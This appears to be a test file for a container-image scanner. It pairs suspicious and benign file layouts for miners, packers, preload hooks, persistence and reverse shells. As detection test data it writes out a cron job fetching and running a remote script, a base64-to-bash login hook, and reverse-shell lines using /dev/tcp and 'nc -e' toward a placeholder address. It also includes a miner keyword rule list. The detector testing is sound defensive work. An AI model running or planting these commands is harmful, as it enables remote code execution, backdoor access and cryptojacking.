import { elfFixture } from '../../kit/samples/elf-fixture.ts'
import { casesOf, type FindingCase } from '../corpus/finding-case.ts'
import { bytesOf } from './made-up.ts'

/** Files that look like an intruder's, and the ordinary ones that look like those. */
const elf = (body: string | Buffer, sections = 5) => ({
  content: elfFixture({ sections, body: Buffer.from(body as string) }),
  mode: 0o755,
})
const script = (content: string) => ({ content, mode: 0o755 })

export const SUSPICIOUS_ROWS: readonly FindingCase[] = [
  ...casesOf(
    'suspicious/miner',
    {
      'its words in a program': { layers: [{ 'usr/bin/sysupdate': elf('\0xmrig/6.21\0 --donate-level=N \0') }] },
      'its name': { layers: [{ 'opt/xmrig': elf('x') }] },
      'settings with a pool': {
        layers: [{ 'etc/c.json': '{"autosave":true,"pools":[{"url":"pool.supportxmr.com:443","user":"4A","tls":true}]}' }],
      },
    },
    {
      "a scanner's rules": {
        layers: [
          {
            'etc/falco/falco_rules.yaml':
              '- list: miner_domains\n  items: ["pool.supportxmr.com", "xmrig", "donate-level", "stratum+tcp"]\n',
          },
        ],
      },
      'a list of words': { layers: [{ 'usr/share/dict/words': 'xmrig\nrandomx\nstratum+tcp\n' }] },
      'pools of connections': { layers: [{ 'app/db.json': '{"pools":[{"url":"postgres.orders.internal:5432"}]}' }] },
    },
  ),
  ...casesOf(
    'suspicious/packed',
    {
      'UPX without sections': {
        layers: [{ 'usr/local/bin/agent': elf(Buffer.concat([Buffer.from('UPX!'), bytesOf('upx', 9000)]), 0) }],
      },
    },
    {
      'the word in a text': { layers: [{ 'app/README': 'We do not use UPX! at all.\n' }] },
      'a static program': { layers: [{ 'usr/local/bin/agent': elf(bytesOf('go', 9000), 20) }] },
    },
  ),
  ...casesOf(
    'suspicious/odd-place',
    {
      'in tmp': { layers: [{ 'tmp/kthreadd': elf('x') }] },
      'in memory': { layers: [{ 'dev/shm/update.sh': script('#!/bin/sh\n') }] },
      'hidden in share': { layers: [{ 'usr/share/.cache-d/run': elf('x') }] },
      'a name of dots': { layers: [{ 'usr/bin/...': elf('x') }] },
    },
    {
      'a directory of X11': { layers: [{ 'tmp/.X11-unix/': { mode: 0o1777 } }] },
      'data in tmp': { layers: [{ 'tmp/data.json': '{}' }] },
      "a user's own": { layers: [{ 'root/.local/bin/uv': elf('x'), 'root/.cargo/bin/cargo': elf('y') }] },
    },
  ),
  ...casesOf(
    'suspicious/preload',
    {
      'a line': { layers: [{ 'etc/ld.so.preload': '/usr/lib/libproc.so\n', 'usr/lib/libproc.so': elf('x') }] },
      'a variable': { config: { Env: ['LD_PRELOAD=/opt/hook.so'] }, layers: [{ 'opt/hook.so': elf('x') }] },
    },
    {
      'a comment': { layers: [{ 'etc/ld.so.preload': '# nothing\n\n' }] },
      'jemalloc is no warning': {
        severity: 'warning',
        config: { Env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] },
        layers: [{ 'usr/lib/x86_64-linux-gnu/libjemalloc.so.2': elf('x') }],
      },
    },
  ),
  ...casesOf(
    'suspicious/persistence',
    {
      'a crontab': { layers: [{ 'etc/crontabs/root': '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n' }] },
      'a login': { layers: [{ 'etc/profile.d/z.sh': 'echo ZWNobyBoaQ== | base64 -d | bash\n' }] },
    },
    {
      'a download into a file': {
        layers: [{ 'etc/cron.daily/lists': script('#!/bin/sh\ncurl -o /var/lib/lists https://lists.orders.internal/all\n') }],
      },
      'a comment': { layers: [{ 'etc/cron.d/x': '# curl https://x | sh would be wrong\n0 1 * * * root true\n' }] },
    },
  ),
  ...casesOf(
    'suspicious/reverse-shell',
    {
      'in the command': { config: { Cmd: ['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] } },
      'in a job': { layers: [{ 'etc/cron.d/x': '* * * * * root nc -e /bin/sh 203.0.113.9 4444\n' }] },
      'in the history': { history: [{ created_by: 'RUN /bin/sh -c bash -i >& /dev/tcp/203.0.113.9/9001 0>&1 # buildkit' }] },
    },
    {
      'waiting for a database': {
        config: { Entrypoint: ['/wait.sh'] },
        layers: [
          { 'wait.sh': script('#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\nexec "$@"\n') },
        ],
      },
      documentation: { layers: [{ 'usr/share/doc/nc/README': 'nc -e /bin/sh host port\n' }] },
    },
  ),
  ...casesOf(
    'suspicious/docker-socket',
    {
      "kubelet's certificate": {
        layers: [{ 'var/lib/kubelet/pki/kubelet-client-current.pem': '-----BEGIN CERTIFICATE-----\nMIIB\n' }],
      },
      'the socket as a file': { layers: [{ 'var/run/docker.sock': 'x' }] },
    },
    {
      'a place to mount it': { layers: [{ 'var/run/': {}, 'var/lib/kubelet/': {} }] },
      'a text about it': { layers: [{ 'app/README.md': '-v /var/run/docker.sock:/var/run/docker.sock\n' }] },
    },
  ),
]
